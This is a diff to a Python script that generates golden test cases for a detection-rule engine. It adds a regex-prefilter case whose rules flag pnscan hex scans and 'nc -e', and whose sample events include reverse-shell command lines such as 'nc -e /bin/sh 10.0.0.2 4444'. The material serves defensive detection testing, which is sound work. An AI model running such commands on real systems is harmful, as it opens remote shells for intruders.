@@ -2,8 +2,8 @@
 # expected.jsonl per case). Run it after changing a case here: python3 tests/data/gen_detect_golden.py
 import json, os, base64, shutil
 ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'detect')
-shutil.rmtree(ROOT, ignore_errors=True)
-os.makedirs(ROOT)
+# Only the cases made here are rewritten: some (prefilter_memo) are written by hand.
+os.makedirs(ROOT, exist_ok=True)
 
 def proc(cmd, image='/usr/bin/bash', parent='/usr/sbin/sshd', user='alice', ts='2026-11-22T10:00:00Z', host='web1', **extra):
     e = {"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
@@ -27,6 +27,7 @@ def fileev(path, action='creation', image='/usr/bin/touch', ts='2026-11-22T10:00
 
 def case(name, rule, events, hits, errors=None, placeholders=None):
     d = os.path.join(ROOT, name)
+    shutil.rmtree(d, ignore_errors=True)
     os.makedirs(d)
     open(os.path.join(d, 'rule.yml'), 'w').write(rule.strip('\n') + '\n')
     with open(os.path.join(d, 'events.jsonl'), 'w') as f:
@@ -105,6 +106,18 @@ case('mod_re', rule('r', """    sel_plain:
      [proc('python3.11 -c import socket'), proc('PYTHON3 -c import socket'), proc('echo x | base64  -d'),
       proc('first\nsecond\nthird'), proc('alpha\nomega'), proc('alphaomega')],
      [(1,'r'),(3,'r'),(4,'r'),(5,'r')])
+# A regular expression whose only certain literals are short: -(W|R) gives the set "-w", "-r"
+# (case-folded, so "-w" in line 7 is a candidate that the case-sensitive expression rejects), and
+# nc\s+-e the two-byte "nc". Lines with neither are ruled out before evaluation.
+case('prefilter_regex_sets', rule('r', """    sel_pnscan:
+        CommandLine|re: '-(W|R)\\s?(\\s|"|\'\')([0-9a-fA-F]{2}\\s?){2,20}(\\s|"|\'\')'
+    sel_nc:
+        CommandLine|re: 'nc\\s+-e'
+    condition: 1 of sel_*"""),
+     [proc("pnscan -W '0a 0b 0c' 10.0.0.1"), proc('pnscan -R "aa bb cc" host'), proc('ls -w 80 -r'),
+      proc('nc -e /bin/sh 10.0.0.2 4444'), proc('ncat -e /bin/sh'), proc('echo 0a 0b 0c'),
+      proc("pnscan -w '0a 0b 0c' 10.0.0.1")],
+     [(1,'r'),(2,'r'),(4,'r')])
 b = base64.b64encode(b'secret-token').decode()
 case('mod_base64', rule('r', """    selection:
         CommandLine|base64|contains: 'secret-token'
